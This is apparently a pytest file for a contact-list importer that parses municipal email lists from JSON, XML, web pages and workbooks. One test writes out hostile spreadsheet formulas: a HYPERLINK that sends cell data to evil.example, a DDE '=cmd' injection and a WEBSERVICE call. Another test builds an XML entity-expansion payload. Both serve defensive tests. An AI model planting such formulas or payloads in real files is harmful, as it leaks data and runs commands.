"""JSON, XML, web pages, and workbooks as offices make them: the same list in each, and what is wrong with some."""

import csv
import gc
import io
import json
import zipfile
from pathlib import Path
from random import Random

import pytest
import xlsxwriter

from outreach.contacts import decode, normalize
from outreach.contacts.columns import map_columns
from outreach.contacts.decode import Table
from outreach.contacts.normalize import Rejected
from outreach.errors import InputError
from outreach.model.values import ContactRow
from tests.lists import files
from tests.lists.made import made
from tests.lists.towns import COUNTRIES

ROWS = [
    ["Gemeente", "E-mail", "Inwoners"],
    ["Waterveen", "info@waterveen.example", "1200"],
    ["Heidelo", "post@heidelo.example; griffie@heidelo.example", ""],
    ["Maasdijk", "", "310"],
]
FOUND = ["info@waterveen.example", "post@heidelo.example", "griffie@heidelo.example"]


def read(data: bytes, country: str = "NL", **options: object) -> Table:
    return decode.table(data, filename="list.x", country=country, **options)  # type: ignore[arg-type]


def contacts(table: Table, country: str = "NL") -> list[ContactRow | Rejected]:
    mapping = map_columns(table.header, table.sample, country=country, hidden=table.hidden)
    return list(normalize.contacts(table.rows, mapping, country))


def emails(data: bytes, country: str = "NL", **options: object) -> list[str]:
    return [
        row.email for row in contacts(read(data, country, **options), country) if isinstance(row, ContactRow)
    ]


@pytest.mark.parametrize("country", COUNTRIES)
def test_every_valid_address_is_found_and_none_invented(country: str) -> None:
    """The habits of each country, two lists each; `make accuracy` reads more of them."""
    for seed in (101, 102):
        one = made(country, Random(f"{country}{seed}"), rows=25)
        wanted = {address.casefold() for _, found in one.truth for address in found}
        found = {email.casefold() for email in emails(one.data, country)}
        assert (found - wanted, wanted - found) == (set(), set()), (country, seed, one.filename)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (files.json_(ROWS), "json"),
        (files.json_lines(ROWS), "json"),
        (files.geojson(ROWS), "json"),
        (json.dumps(files.records(ROWS), indent=2).encode("utf-16"), "json"),
        (json.dumps({"fields": [{"id": n} for n in ROWS[0]], "records": ROWS[1:]}).encode(), "json"),
        (json.dumps(ROWS).encode("cp1252"), "json"),
        (files.xml(ROWS), "xml"),
        (files.html(ROWS), "html"),
        (files.xlsx(ROWS), "xlsx"),
        (files.ods(ROWS), "ods"),
        (files.text(ROWS, "utf-16", "\t", csv.QUOTE_ALL), "csv"),
    ],
)
def test_one_list_in_every_format(data: bytes, kind: str) -> None:
    table = read(data)
    assert table.format == kind
    assert [title.casefold().replace("_", "-") for title in table.header] == [
        "gemeente",
        "e-mail",
        "inwoners",
    ]
    rows = contacts(table)
    assert [row.email for row in rows if isinstance(row, ContactRow)] == FOUND
    assert [row.reason for row in rows if isinstance(row, Rejected)] == ["no_address"]
    assert isinstance(rows[0], ContactRow)
    assert (rows[0].place.name, rows[0].place.population) == ("Waterveen", 1200)


class TestJson:
    def test_nested_fields_and_a_field_that_only_the_last_record_has(self) -> None:
        data = json.dumps(
            {
                "meta": {"count": 2},
                "data": [
                    {"town": {"name": "A", "code": 17}, "contact": {"email": ["a@x.example", "b@x.example"]}},
                    {
                        "town": {"name": "B"},
                        "contact": {"email": None, "secretary": [{"email": "c@x.example"}]},
                    },
                ],
            }
        ).encode()
        table = read(data)
        assert table.header == ("town.name", "town.code", "contact.email", "contact.secretary.email")
        assert emails(data) == ["a@x.example", "b@x.example", "c@x.example"]

    def test_a_cell_of_json_in_a_csv(self) -> None:
        cell = json.dumps([{"libelle": "Accueil, mairie", "valeur": "mairie@x.example"}, "contact@x.example"])
        assert emails(files.text([["nom", "adresse_courriel"], ["A", cell]], "utf-8", ","), "FR") == [
            "mairie@x.example",
            "contact@x.example",
        ]

    @pytest.mark.parametrize("cut", [40, -1, -30])
    def test_cut_off(self, cut: int) -> None:
        for data in (files.json_(ROWS), files.geojson(ROWS)):
            with pytest.raises(InputError, match="damaged or cut off"):
                read(data[:cut])

    def test_no_list(self) -> None:
        for data in (b'{"a": 1}', b"[]", b'{"a": []}', b"[ 1, 2]"):
            with pytest.raises(InputError, match="holds no list of records"):
                read(data)

    def test_a_long_list_is_read_in_pieces(self) -> None:
        records = [
            {"gemeente": f"Plaats {n}", "mail": f"info@p{n}.example", "x": "y" * 200} for n in range(1500)
        ]
        assert len(emails(json.dumps({"result": {"records": records}}).encode())) == 1500


class TestXml:
    def test_a_register_with_attributes_and_several_addresses_an_office(self) -> None:
        offices = "".join(
            f'<o:org code="{n}"><o:naam>Plaats {n}</o:naam><o:contact><o:email>info@p{n}.example</o:email>'
            f"<o:email>griffie@p{n}.example</o:email></o:contact></o:org>"
            for n in (1, 2, 3)
        )
        data = f'<?xml version="1.0"?><o:all xmlns:o="urn:x"><o:region>{offices}</o:region></o:all>'.encode()
        table = read(data)
        assert table.header == ("code", "naam", "contact.email")
        assert len(emails(data)) == 6

    def test_entities_are_not_unpacked(self) -> None:
        data = (
            b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;">]><a><r><m>&c;</m></r></a>'
        )
        with pytest.raises(InputError, match="defines entities"):
            read(data)

    def test_cut_off(self) -> None:
        with pytest.raises(InputError, match="damaged or cut off"):
            read(files.xml(ROWS)[:-20])

    def test_excel_of_2003(self) -> None:
        space = "urn:schemas-microsoft-com:office:spreadsheet"
        rows = "".join(
            "<Row>" + "".join(f'<Cell><Data ss:Type="String">{cell}</Data></Cell>' for cell in row) + "</Row>"
            for row in ROWS[:2]
        )
        last = '<Row ss:Index="9"><Cell ss:Index="2"><Data ss:Type="String">x@y.example</Data></Cell></Row>'
        data = (
            f'<?xml version="1.0"?><Workbook xmlns="{space}" xmlns:ss="{space}"><Worksheet ss:Name="Lijst">'
            f"<Table>{rows}{last}</Table></Worksheet></Workbook>"
        ).encode()
        table = read(data)
        assert (table.format, table.sheet) == ("xml", "Lijst")
        assert [tuple(row) for row in table.rows][-1] == (9, ["", "x@y.example"])
        with pytest.raises(InputError, match="has no sheet 'X'"):
            read(data, sheet="X")


class TestWebPages:
    def test_spans_links_and_the_right_table(self) -> None:
        data = (
            b"<html><body><table><tr><td>Menu<td>Home</table><table><tr><th rowspan=2>Gemeente<th colspan=2>Contact"
            b"<tr><th>Telefoon<th>E-mail<tr><td rowspan=2>Waterveen<td>1<td><a href='mailto:a@x.example'>Mail ons</a>"
            b"<tr><td>2<td>b&#64;x.example<br>c@x.example</table>"
        )
        table = read(data)
        assert (table.header, table.header_line) == (("Gemeente", "Telefoon", "E-mail"), 1)
        found = contacts(table)
        assert all(isinstance(row, ContactRow) and row.place.name == "Waterveen" for row in found)
        assert [row.email for row in found if isinstance(row, ContactRow)] == [
            f"{c}@x.example" for c in "abc"
        ]

    @pytest.mark.parametrize(
        "page", [b"<!DOCTYPE html><html><h1>404 Not found</h1>", b"<html><table><tr><td>x"]
    )
    def test_without_a_table_of_contacts(self, page: bytes) -> None:
        with pytest.raises(InputError, match=r"a web page .* without a table"):
            read(page)


def sheet_with(write: object) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    write(book)  # type: ignore[operator]
    book.close()
    return out.getvalue()


class TestWorkbooks:
    def test_two_rows_of_headers_titles_and_a_row_of_numbers(self) -> None:
        rows = [["Nazwa samorządu", "telefon", "ogólny adres poczty elektronicznej"], ["1", "2", "3"]]
        rows += [["Nowa Wieś", "12", "ug@nowa-wies.example"], ["Razem", "", ""]]
        data = files.xlsx(rows, [["Wykaz"], []], [("Jednostka", 1), ("Dane urzędu", 2)])
        table = read(data, "PL")
        assert table.header_line == 4
        assert [row.line for row in table.rows] == [6, 7]
        assert emails(data, "PL") == ["ug@nowa-wies.example"]

    def test_what_a_group_says_names_the_columns_below_it(self) -> None:
        rows = [
            ["Gemeente", "", "Contact", ""],
            ["", "Code", "Telefoon", "E-mail"],
            ["A", "17", "1", "a@x.example"],
        ]
        table = read(files.text(rows, "utf-8", ";"))
        assert table.header == ("Gemeente", "Gemeente: Code", "Contact: Telefoon", "Contact: E-mail")
        assert len(contacts(table)) == 1

    def test_merged_cells_count_for_every_row_they_reach(self) -> None:
        def write(book: xlsxwriter.Workbook) -> None:
            sheet = book.add_worksheet()
            sheet.write_row(0, 0, ["Gemeente", "E-mail"])
            sheet.merge_range(1, 0, 2, 0, "Waterveen")
            sheet.write(1, 1, "a@x.example")
            sheet.write(2, 1, "b@x.example")

        found = contacts(read(sheet_with(write)))
        assert [row.place.name for row in found if isinstance(row, ContactRow)] == ["Waterveen", "Waterveen"]

    def test_hidden_columns_rows_and_sheets(self) -> None:
        def write(book: xlsxwriter.Workbook) -> None:
            sheet = book.add_worksheet("Lijst")
            for line, row in enumerate(
                [
                    ["Gemeente", "E-mail", "E-mail oud"],
                    ["A", "a@x.example", "old@x.example"],
                    ["B", "b@x.example", ""],
                ]
            ):
                sheet.write_row(line, 0, row)
            sheet.set_column(2, 2, None, None, {"hidden": True})
            sheet.set_row(2, None, None, {"hidden": True})
            other = book.add_worksheet("Archief")
            other.write_row(0, 0, ["Gemeente", "E-mail"])
            other.hide()

        data = sheet_with(write)
        table = read(data)
        assert table.hidden == {2}
        assert table.notes == (
            "1 hidden row is read like the others.",
            "Hidden sheets are not read: 'Archief'.",
        )
        assert emails(data) == ["a@x.example", "b@x.example"]

    def test_a_formula_is_its_value_and_never_run(self) -> None:
        def write(book: xlsxwriter.Workbook) -> None:
            sheet = book.add_worksheet()
            sheet.write_row(0, 0, ["Gemeente", "E-mail"])
            sheet.write(1, 0, "A")
            sheet.write_formula(1, 1, '=HYPERLINK("http://evil.example/"&A2,"x")', None, "a@x.example")
            sheet.write_string(2, 0, "=cmd|'/c calc'!A0")
            sheet.write_string(2, 1, '=WEBSERVICE("http://evil.example")')

        good, bad = contacts(read(sheet_with(write)))
        assert isinstance(good, ContactRow)
        assert good.email == "a@x.example"
        assert isinstance(bad, Rejected)

    def test_pictures_in_it_are_not_unpacked(self) -> None:
        out = io.BytesIO(files.xlsx(ROWS))
        with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as archive:
            archive.writestr("xl/media/image1.png", bytes(1 << 21))
        assert emails(out.getvalue()) == FOUND

    @pytest.mark.parametrize("name", ["word/document.xml", "ppt/presentation.xml"])
    def test_other_documents(self, name: str) -> None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(name, "<x/>")
        with pytest.raises(InputError, match="text document or a presentation"):
            read(out.getvalue())


class TestOverrides:
    def test_the_row_of_names(self) -> None:
        data = b"Plaats;Wie\nA;a@x.example\nGemeente;E-mail\nB;b@x.example\n"
        assert read(data, header_row=3).header == ("Gemeente", "E-mail")
        assert emails(data, header_row=3) == ["b@x.example"]
        table = read(data, header_row=0)
        assert (table.header, table.header_line) == (("column 1", "column 2"), 0)
        with pytest.raises(InputError, match="no rows from line 9 on"):
            read(data, header_row=9)
        with pytest.raises(InputError, match="line 2 is empty"):
            read(b"A;B\n\nGemeente;E-mail\nB;b@x.example\n", header_row=2)

    @pytest.mark.parametrize(
        ("data", "option"),
        [
            (files.text(ROWS, "utf-8", ";"), {"sheet": "x"}),
            (files.xlsx(ROWS), {"encoding": "utf-8"}),
            (files.xlsx(ROWS), {"delimiter": ";"}),
            (files.json_(ROWS), {"delimiter": ";"}),
        ],
    )
    def test_what_does_not_fit_the_file(self, data: bytes, option: dict[str, str]) -> None:
        with pytest.raises(InputError, match=f"has no {next(iter(option))} to be given"):
            read(data, **option)


def test_certified_mail_is_told_by_a_column_beside_it_or_by_its_domain() -> None:
    header = ["Denominazione_ente", "Mail1", "Tipo_Mail1", "Mail2", "Tipo_Mail2"]
    rows = [
        header,
        ["Comune di A", "protocollo@a.example", "pec", "info@a.example", "altro"],
        ["Comune di B", "b@pec.b.example", "pec", "", ""],
        ["Comune di C", "comune@pec.c.example;info@c.example", "altro", "", ""],
    ]
    assert emails(files.text(rows, "utf-8", "\t"), "IT") == [
        "info@a.example",
        "b@pec.b.example",
        "info@c.example",
    ]


@pytest.mark.parametrize("kind", ["text", "json_", "html"])
def test_a_file_may_be_closed_before_its_rows_are_read_to_the_end(kind: str) -> None:
    """What is left of the reader then must not complain on stderr; warnings are errors here."""
    long = [ROWS[0], *ROWS[1:] * 3000]
    file = io.BytesIO(files.text(long, "utf-8", ";") if kind == "text" else getattr(files, kind)(long))
    rows = iter(read(file).rows)  # type: ignore[arg-type]
    next(rows)
    file.close()
    del rows
    gc.collect()


def test_an_old_workbook() -> None:
    """``tests/samples/obce.xls``, as Excel 97 to 2003 writes it: BIFF8, a merged title, a hidden sheet."""
    data = (Path(__file__).parents[1] / "samples" / "obce.xls").read_bytes()
    table = read(data, "CZ")
    assert (table.format, table.sheet, table.header_line) == ("xls", "Obce", 3)
    assert table.notes == ("Hidden sheets are not read: 'Skryté'.",)
    assert emails(data, "CZ") == ["podatelna@zdar.example", "ou@ricky.example", "starosta@ricky.example"]
    with pytest.raises(InputError, match="damaged workbook, or one that is cut off"):
        read(data[:4000], "CZ")
